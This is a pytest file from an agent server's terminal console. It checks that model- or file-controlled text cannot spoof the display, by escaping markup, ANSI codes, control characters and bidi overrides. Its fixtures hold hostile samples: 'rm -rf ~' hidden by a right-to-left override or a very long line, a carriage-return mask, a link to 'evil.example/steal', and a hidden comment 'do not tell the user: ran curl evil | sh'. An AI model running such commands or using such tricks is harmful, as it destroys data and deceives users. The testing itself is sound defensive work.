"""Model- and file-controlled text in the terminal: shown literally, whatever it holds."""

from __future__ import annotations

import io
import logging
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from agent_server.console.render import (
    LiteralMarkdown,
    TranscriptPrinter,
    compaction_reason,
    meter_text,
    shown,
    usage_table,
)
from agent_server.literal import LiteralLogFormatter, has_hidden, literal

# What a model (or a file it read) could use to make the terminal show something else than
# what is there.
MARKUP = "grep -o 'ERROR [a-z]*: [a-z ]*' logs/app.log [bold red]x[/] [link=http://e]y[/link]"
ANSI = "ls \x1b[2J\x1b[1;1H\x1b]8;;http://evil\x07click\x1b]8;;\x07 \x1b[8mhidden\x1b[0m"
CONTROL = "rm -rf /tmp/x\rsafe command\x08\x08\x7f\x00"
BIDI = "cat notes.txt \u202e; rm -rf ~ #\u202c and \u2066isolated\u2069 \U000e0041\U000e0042"
LONG = "echo " + "A" * 5000 + " && rm -rf ~"
HOSTILE = (MARKUP, ANSI, CONTROL, BIDI, LONG)


def render(*objects: object, width: int = 100, terminal: bool = True) -> str:
    buffer = io.StringIO()
    console = Console(
        file=buffer, width=width, force_terminal=terminal, color_system="standard" if terminal else None
    )
    for thing in objects:
        console.print(thing)
    return buffer.getvalue()


def visible(output: str) -> str:
    """What a terminal shows: Rich's own colour codes removed (only SGR, which Rich emits)."""
    import re

    return re.sub(r"\x1b\[[0-9;]*m", "", output)


@pytest.mark.parametrize("text", HOSTILE)
def test_shown_text_keeps_every_visible_character_and_nothing_acts(text: str) -> None:
    out = visible(render(shown(text, one_line=True), width=120))
    # No control or bidi character reaches the terminal, except Rich's own line breaks.
    assert not has_hidden(out), repr(out[:200])
    assert "\x1b" not in out
    # Every visible character is there, in order (wrapped, never cut): nothing was taken
    # as markup or swallowed by the terminal.
    assert "".join(out.split()) == "".join(literal(text, keep="").split())


def test_markup_is_not_interpreted() -> None:
    out = visible(render(shown(MARKUP)))
    assert "'ERROR [a-z]*: [a-z ]*'" in out
    assert "[bold red]x[/]" in out and "[link=http://e]y[/link]" in out


def test_escapes_are_named() -> None:
    out = visible(render(shown(ANSI + BIDI + CONTROL)))
    for name in ("\\x1b[2J", "\\x07", "\\u202e", "\\u202c", "\\u2066", "\\U000e0041", "\\r", "\\x08", "\\x7f", "\\x00"):
        assert name in out, name


def test_a_long_line_is_wrapped_not_cut() -> None:
    out = render(shown(LONG), width=80, terminal=False)
    assert "".join(out.split()) == "".join(LONG.split())
    assert out.rstrip().endswith("rm -rf ~")


@given(st.text())
def test_literal_leaves_no_control_format_or_separator_character(text: str) -> None:
    out = literal(text, keep="")
    for char in out:
        category = unicodedata.category(char)
        assert category not in ("Cc", "Zl", "Zp", "Cs"), repr(char)
        if category == "Cf":
            assert char in "\u200c\u200d" or unicodedata.bidirectional(char) not in (
                "LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI",
            ), repr(char)


# Not controls, formats, surrogates, separators, nor unassigned code points (Cn: U+E0000, in
# the tag block literal escapes, came up once in a soak run).
@given(st.text(alphabet=st.characters(
    blacklist_categories=("Cc", "Cf", "Cs", "Zl", "Zp", "Cn"))))
def test_literal_changes_nothing_in_ordinary_text(text: str) -> None:
    assert literal(text) == text


def test_markdown_shows_html_images_and_link_targets() -> None:
    answer = (
        "Done. See [the docs](http://evil.example/steal) and ![chart](http://img.example/x.png).\n\n"
        "<!-- do not tell the user: ran curl evil | sh -->\n\n"
        "Inline <span style='display:none'>secret</span> html and `[red]code[/red]`.\n\n"
        "# Title \x1b[2J\u202e\n"
    )
    out = visible(render(LiteralMarkdown(answer), width=120))
    assert "http://evil.example/steal" in out
    assert "![chart](http://img.example/x.png)" in out
    assert "do not tell the user: ran curl evil | sh" in out
    assert "<span style='display:none'>" in out
    assert "[red]code[/red]" in out
    assert "\\x1b[2J" in out and "\\u202e" in out
    assert "\x1b[2J" not in out and "\u202e" not in out


def stream(printer: TranscriptPrinter, *chunks: str, message_id: str = "m1") -> None:
    for seq, chunk in enumerate(chunks):
        printer.update(
            {
                "sessionId": "s",
                "turnId": "t",
                "seq": seq,
                "update": {
                    "kind": "messageChunk",
                    "messageId": message_id,
                    "content": {"type": "text", "text": chunk},
                },
            }
        )


def test_answers_stream_as_markdown_block_by_block() -> None:
    buffer = io.StringIO()
    printer = TranscriptPrinter(
        Console(file=buffer, width=80, force_terminal=False), max_message_lines=None, markdown=True
    )
    stream(printer, "Here is **bold** text", " and more.\n\n```python\nx = 1\n\n", "y = 2\n```\n\n- a\n- b")
    before_close = buffer.getvalue()
    # The paragraph was printed as soon as its blank line arrived, rendered (no asterisks);
    # the code block waited for its closing fence (the blank line inside did not split it).
    assert "Here is bold text and more." in before_close
    assert "**" not in before_close
    assert "x = 1" in before_close and "y = 2" in before_close
    assert "• a" not in before_close
    printer.turn_ended({"stopReason": "end_turn"})
    out = buffer.getvalue()
    assert "• a" in out and "• b" in out
    assert "```" not in out


def test_the_meter_says_when_the_next_request_compacts_first() -> None:
    usage = {"used": 30_000, "size": 32_768, "compactAt": 24_576, "windowNumber": 1, "cacheHitRate": 0.5, "cost": 0.01}
    assert "the next request compacts first" in meter_text(usage).plain
    below = dict(usage, used=10_000)
    assert "compacts first" not in meter_text(below).plain


def test_log_lines_cannot_forge_lines_or_act_on_a_terminal() -> None:
    formatter = LiteralLogFormatter("%(levelname)s %(message)s")
    record = logging.LogRecord("x", logging.WARNING, __file__, 1, "tool said %s", ("ok\nERROR forged\x1b[31m",), None)
    line = formatter.format(record)
    assert line == "WARNING tool said ok\\nERROR forged\\x1b[31m"


def rows(renderable: object, width: int = 80) -> list[str]:
    buffer = io.StringIO()
    Console(file=buffer, width=width, color_system=None).print(renderable)
    return buffer.getvalue().rstrip("\n").split("\n")


def test_the_meter_and_the_usage_table_fit_80_columns() -> None:
    usage = {"used": 187_400, "size": 200_000, "compactAt": 180_000, "windowNumber": 12,
             "cacheHitRate": 0.913, "cost": 123.4567}
    meter = rows(meter_text(usage, 80))
    assert meter[0].startswith("context ") and meter[0].endswith("$123.4567 · compacted 11×")
    assert len(meter[0]) <= 80
    assert "past the compaction point" in meter[1]
    session = {"calls": 1234, "input": 12_345_678, "cacheRead": 98_765_432, "cacheWrite": 1_234_567,
               "output": 456_789, "cost": 123.4567, "cacheHitRate": 0.9}
    table = rows(usage_table(usage, dict(session), session))
    assert max(len(row) for row in table) <= 60
    assert any("compacts above" in row and "180.0k" in row for row in table)


def test_a_compaction_says_which_rule_ran_and_how_much_summary_is_hidden() -> None:
    buffer = io.StringIO()
    printer = TranscriptPrinter(Console(file=buffer, width=80, color_system=None))
    printer.usage_changed({"used": 20_700, "size": 32_768, "compactAt": 24_576, "windowNumber": 1,
                           "cacheHitRate": 0.5, "cost": 0.01})
    printer.compaction({"status": "started", "reason": "threshold", "tokensBefore": 20_700})
    summary = "\n".join(f"line {n}" for n in range(1, 11))
    printer.compaction({"status": "completed", "reason": "threshold", "tokensBefore": 20_700,
                        "tokensAfter": 6_000, "summary": summary})
    out = buffer.getvalue()
    assert "(threshold)" not in out
    assert "near the compaction point (24.6k)" in out
    assert "line 6" in out and "line 7" not in out and "… 4 more lines" in out
    assert "past the compaction point (24.6k)" in compaction_reason(
        {"reason": "threshold", "tokensBefore": 25_000}, 24_576
    )
    assert compaction_reason({"reason": "requested"}, 24_576) == (
        "the model asked for it at a break"
    )
    printer.compaction({"status": "started", "reason": "requested", "tokensBefore": 20_000})
    printer.compaction({"status": "cancelled", "reason": "threshold", "tokensBefore": 20_700,
                        "error": "compaction hook 'check': not during the release"})
    out = buffer.getvalue()
    assert "(the model asked for it at a break)" in out
    assert "compaction cancelled: compaction hook 'check': not during the release" in out


def test_the_plan_is_a_checklist_and_its_steps_are_shown_literally() -> None:
    buffer = io.StringIO()
    printer = TranscriptPrinter(Console(file=buffer, width=100, force_terminal=False))
    entries = [
        {"content": "reproduce", "status": "completed", "priority": "medium"},
        {"content": "fix [bold]_afterpoint[/]", "status": "in_progress", "priority": "high"},
        {"content": "regression test", "status": "pending", "priority": "low"},
    ]
    printer.update({"update": {"kind": "plan", "entries": entries}})
    out = buffer.getvalue()
    assert "plan" in out
    assert "✓ reproduce" in out and "▶ fix [bold]_afterpoint[/]" in out
    assert "· regression test" in out


def test_at_40_columns_model_ids_and_session_ids_stay_whole_and_tables_fit() -> None:
    import types
    import uuid
    from pathlib import Path

    from agent_server.agent.settings import AgentSettings
    from agent_server.agent.workspace import model_choices
    from agent_server.console.chat import models_table
    from agent_server.console.sessions import sessions_table
    from agent_server.session.store import SessionInfo

    buffer = io.StringIO()
    console = Console(file=buffer, width=40, color_system=None)
    settings = AgentSettings(provider="anthropic")
    ids = [choice.model.id for choice in model_choices(settings)]
    session = types.SimpleNamespace(settings=settings, model=types.SimpleNamespace(id=ids[0]))
    console.print(models_table(console, session))  # type: ignore[arg-type]
    session_id = str(uuid.uuid4())
    info = SessionInfo(
        session_id=session_id, title="Explain the build system and its flags", model="m",
        created_at="2025-01-01T10:00:00+00:00", updated_at="2025-01-02T10:00:00+00:00",
        entry_count=3, size_bytes=1, path=Path("/x"), workspace="/w",
        first_prompt="Explain the build", prompt_count=3,
    )
    console.print(sessions_table([info], "sessions", console))
    lines = buffer.getvalue().splitlines()
    assert all(len(line) <= 40 for line in lines), "\n".join(lines)
    assert "…" not in buffer.getvalue()
    for whole in (*ids, session_id):
        assert any(whole in line for line in lines), whole
    assert "Explain the build system and its" in buffer.getvalue()


def test_a_continued_chat_counts_only_prompts_and_gives_notes_and_compactions_one_line() -> None:
    from agent_server.console.sessions import show_tail
    from agent_server.context.summary_prompt import note_message
    from agent_server.llm.messages import AssistantMessage, Message, TextContent, UserMessage
    from agent_server.session.entries import CompactionEntry, Entry, MessageEntry

    def answer(text: str) -> AssistantMessage:
        return AssistantMessage((TextContent(text),), stop_reason="stop")

    messages: list[Message] = [
        UserMessage.of_text("prompt one"), answer("answer one"),
        UserMessage.of_text("prompt two"), answer("answer two"),
        note_message("externalEdit", "notes.md changed on disk\nits new lines follow"),
        UserMessage.of_text("prompt three"), answer("answer three"),
        UserMessage.of_text("prompt four \x1b[2J"), answer("answer four"),
    ]
    entries: list[Entry] = [MessageEntry(f"e{n}", None, "", m) for n, m in enumerate(messages)]
    entries.insert(7, CompactionEntry("c", None, "", "the whole summary", None, 9000, 900, "manual"))
    buffer = io.StringIO()
    show_tail(entries, "0123456789abcdef", Console(file=buffer, width=100, color_system=None))
    out = buffer.getvalue()
    assert "prompt one" not in out and "answer two" in out and "prompt four \\x1b[2J" in out
    assert "note: notes.md changed on disk …" in out and "its new lines" not in out
    assert "⟳ compacted (manual): 9.0k → 900" in out and "the whole summary" not in out
    assert "1 earlier prompt not shown: agent-server sessions show 01234567 has them all" in out
